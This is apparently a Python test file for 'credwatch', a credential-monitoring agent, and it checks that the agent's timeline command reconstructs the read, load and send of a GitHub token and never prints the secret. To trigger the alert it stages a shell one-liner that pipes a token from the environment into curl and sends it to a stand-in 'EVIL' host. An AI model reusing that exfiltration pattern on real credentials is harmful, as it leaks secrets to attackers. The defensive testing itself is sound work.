# SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
"""credwatch timeline on what a live agent wrote: its findings file (ECS and OCSF) and its
provenance store, after real clients read a watched credential file and sent a token from
their environment with curl over TLS."""
import json
import os
import shutil
import subprocess
import tempfile

from cwtest import (BIN, Closing, github_token, own, require_root, running_agent, wait_own)
from test_tls import EVIL, TlsServer

ALERT = "credential-unexpected-destination"
PRINTED = []  # everything timeline printed, for the no-plaintext check


def timeline(*args, ok=True):
    """credwatch timeline ARGS: (stdout, stderr), the exit status checked."""
    r = subprocess.run([BIN, "timeline", *args], capture_output=True, timeout=30)
    PRINTED.append(r.stdout + r.stderr)
    assert (r.returncode == 0) == ok, (r.returncode, r.stderr.decode())
    return r.stdout.decode(), r.stderr.decode()


def stories(*args):
    out, _ = timeline(*args, "--format", "json")
    return [json.loads(l) for l in out.splitlines()]


class Scene(Closing):
    """A private directory: the watched file, the agent's findings files and store."""

    def __init__(self):
        self.dir = tempfile.mkdtemp(prefix="cw-tl-")
        self.ecs = os.path.join(self.dir, "findings.json")
        self.ocsf = os.path.join(self.dir, "findings.ocsf.json")
        self.state = os.path.join(self.dir, "state", "provenance.json")
        self.envfile = os.path.join(self.dir, "app", ".env")

    def close(self):
        shutil.rmtree(self.dir, ignore_errors=True)


def play(scene, token):
    """The story, live: the token in a watched .env file read by cat; then a shell with the
    token in its environment has curl send it (read from stdin: never in argv) over TLS to a
    server outside GitHub's destinations. Returns the stopped agent."""
    require_root()
    os.makedirs(os.path.dirname(scene.envfile))
    with open(scene.envfile, "w") as f:
        f.write(f"APP=demo\nGITHUB_TOKEN={token}\n")
    with (TlsServer() as srv,
          running_agent("--events", "--include-loopback", "--state", scene.state,
                        "--output", "stdout", "--output", "file:" + scene.ecs,
                        "--output", "file:%s,format=ocsf" % scene.ocsf) as agent):
        subprocess.run(["cat", scene.envfile], check=True, capture_output=True)
        assert wait_own(agent, token, "credential-read"), agent.stderr()[-2000:]
        send = ('printf "Authorization: token %s\\n" "$GITHUB_TOKEN" | curl -sk -o /dev/null '
                '-H @- --resolve {evil}:{port}:127.0.0.1 https://{evil}:{port}/v1'
                .format(evil=EVIL, port=srv.port))
        subprocess.run(["sh", "-c", send], env={**os.environ, "GITHUB_TOKEN": token},
                       check=True)
        assert wait_own(agent, token, ALERT), agent.stderr()[-2000:]
        agent.port = srv.port
    return agent


def test_timeline_of_a_live_agent():
    token = github_token()
    with Scene() as scene:
        agent = play(scene, token)
        fp = agent.key.fingerprint(token)
        read = own(agent, token, "credential-read")[0]
        loads = own(agent, token, "credential-observed")
        alert = own(agent, token, ALERT)[0]
        assert loads, "the shell's environment was not seen"
        sender = alert["credwatch"]["workload"]
        PRINTED.clear()

        # the table: one story, in order, with the workloads, destination and library
        table, _ = timeline("--findings", scene.ecs, "--credential", fp[:12])
        assert table.count("fingerprint ") == 1, table
        assert fp in table and alert["credwatch"]["credential"]["redacted"] in table
        assert all(len(l) <= 100 for l in table.splitlines()), table
        rows = table.splitlines()

        def row(text):
            hits = [i for i, l in enumerate(rows) if text in l]
            assert hits, (text, table)
            return hits[0]

        def block(text):
            """The event whose first row holds text: that row and its continuation lines."""
            i = row(text)
            j = i + 1
            while j < len(rows) and rows[j].startswith(" " * 30):
                j += 1
            return "\n".join(rows[i:j])
        assert row("read ") < row("loaded ") < row("sent ") < row("ALERT " + ALERT), table
        assert "file " + scene.envfile in block("read "), table
        assert "process cat[%d]" % read["process"]["pid"] in block("read ")
        assert "env GITHUB_TOKEN" in block("loaded "), table
        assert sender in block("sent "), table
        assert "to %s:%d" % (EVIL, agent.port) in block("sent "), table
        assert "process curl[%d]" % alert["process"]["pid"] in block("sent ")
        assert "TLS library openssl" in block("sent ")
        assert "event.id " + alert["event"]["id"] in block("sent ")

        # JSON: the same story, every field from the findings
        got = stories("--findings", scene.ecs, "--credential", fp)
        assert len(got) == 1, got
        s = got[0]
        assert s["credential"]["fingerprint"] == fp
        assert s["credential"]["rule"] == "github-pat-classic"
        assert s["credential"]["owners"] == alert["credwatch"]["credential"]["owners"]
        ev = s["events"]
        assert [e["time"] for e in ev] == sorted(e["time"] for e in ev)
        assert len(ev) == 1 + len(loads) + 1, ev
        assert ev[0]["what"] == "read" and ev[0]["detail"] == scene.envfile
        assert ev[0]["event_id"] == read["event"]["id"]
        # a read names the workload it is judged for (a host process: its tree), as alerts do
        assert ev[0]["workload"] == read["credwatch"]["workload"] != "", read
        assert {e["what"] for e in ev[1:-1]} == {"loaded"}
        assert {e["process"]["pid"] for e in ev[1:-1]} == {l["process"]["pid"] for l in loads}
        assert all(e["source"] == "env" and e["detail"] == "GITHUB_TOKEN" for e in ev[1:-1])
        sent = ev[-1]
        assert sent["what"] == "sent" and sent["alert"] is True and sent["action"] == ALERT
        assert sent["event_id"] == alert["event"]["id"]
        assert sent["workload"] == sender
        assert sent["process"] == {"pid": alert["process"]["pid"], "name": "curl",
                                   "executable": alert["process"]["executable"]}
        assert sent["destination"] == {"domain": EVIL, "ip": "127.0.0.1", "port": agent.port}
        assert sent["tls_library"] == "openssl"
        assert s["alerts"] == 1

        # OCSF lines of the same run tell the same story
        ocsf = stories("--findings", scene.ocsf, "--credential", fp)
        assert len(ocsf) == 1
        assert [(e["time"], e["what"], e.get("event_id"), e.get("workload"))
                for e in ocsf[0]["events"]] == \
            [(e["time"], e["what"], e.get("event_id"), e.get("workload")) for e in ev]

        # filters: each narrows, together they must all hold
        assert len(stories("--findings", scene.ecs, "--credential", fp,
                           "--rule", "github-pat-classic")) == 1
        assert stories("--findings", scene.ecs, "--credential", fp, "--rule",
                       "aws-access-key") == []
        assert len(stories("--findings", scene.ecs, "--credential", fp,
                           "--workload", sender)) == 1
        assert stories("--findings", scene.ecs, "--credential", fp,
                       "--workload", "k8s:nowhere/*") == []
        out, _ = timeline("--findings", scene.ecs, "--credential", fp[:8] + "g")
        assert out.strip() == "no credential matches", out
        mine = [x for x in stories("--findings", scene.ecs, "--workload", sender)
                if x["credential"]["fingerprint"] == fp]
        assert len(mine) == 1

        # the store: origins and uses, with less detail
        st = stories("--state", scene.state, "--credential", fp)
        assert len(st) == 1 and st[0]["from"] == "store"
        what = [(e["what"], e.get("source"), e.get("detail"),
                 e.get("destination", {}).get("address")) for e in st[0]["events"]]
        assert ("read", "file", scene.envfile, None) in what, what
        assert ("loaded", "env", "GITHUB_TOKEN", None) in what, what
        assert ("sent", None, None, "%s:%d" % (EVIL, agent.port)) in what, what
        assert all(e.get("workload") for e in st[0]["events"]), st
        table, _ = timeline("--state", scene.state, "--credential", fp)
        assert "to %s:%d" % (EVIL, agent.port) in table and "seen 1 time" in table

        # never the secret: not in what timeline printed (it can be: the same check finds
        # the redacted form), nor in what it read
        assert len(PRINTED) == 11
        assert any(alert["credwatch"]["credential"]["redacted"].encode() in o for o in PRINTED)
        for path in (scene.ecs, scene.ocsf, scene.state):
            with open(path, "rb") as f:
                PRINTED.append(f.read())
        assert not any(token.encode() in o for o in PRINTED)
        agent.assert_no_plaintext(token)


def test_bad_input_is_counted_and_a_broken_trace_is_refused(tmp_path):
    """No agent: a findings file with broken lines, a trace whose header is garbage, replay
    options given for findings. (test_trace.py tells a real trace's timeline.)"""
    good = {"@timestamp": "2026-12-05T10:00:00.000Z",
            "event": {"id": "e1", "kind": "alert", "action": "credential-in-argv",
                      "severity": 73},
            "rule": {"id": "github-pat-classic"}, "process": {"pid": 7, "name": "git"},
            "credwatch": {"workload": "k8s:a/b",
                          "credential": {"fingerprint": "ab" * 32, "redacted": "ghp_****abcd",
                                         "origin": "argv", "arg_index": 1}}}
    f = tmp_path / "findings.json"
    f.write_text("\n".join([json.dumps(good), "{not json", "", "[]", json.dumps(good)]) + "\n")
    out, err = timeline("--findings", str(f), "--format", "json")
    s = [json.loads(l) for l in out.splitlines()]
    assert len(s) == 1 and len(s[0]["events"]) == 2
    assert s[0]["events"][0]["detail"] == "argv[1]" and s[0]["events"][0]["alert"] is True
    assert err.count("\n") == 1 and "2 line(s) skipped" in err and "line 2" in err, err
    trace = tmp_path / "x.cwtrace"
    trace.write_bytes(b"CWTRACE\0" + bytes(64))
    _, err = timeline(str(trace), ok=False)
    assert "timeline %s" % trace in err and "header" in err, err
    _, err = timeline("--findings", str(f), "--key", str(f), ok=False)
    assert "for a trace FILE" in err, err
